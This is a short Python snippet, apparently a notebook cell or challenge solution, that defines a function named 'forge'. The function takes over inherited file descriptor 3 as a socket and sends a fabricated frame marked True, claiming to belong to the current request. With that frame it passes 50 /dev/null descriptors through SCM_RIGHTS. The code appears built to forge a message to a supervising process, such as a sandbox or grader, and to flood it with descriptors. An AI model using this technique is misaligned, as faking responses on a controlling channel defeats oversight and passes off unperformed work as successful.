# %%
from kit import *

# %%
import array
import socket


def forge(x):
    own = socket.socket(fileno=os.dup(3))
    numbers = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 50)
    own.sendmsg([frame(True, request=current_request())], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, numbers)])
    return x
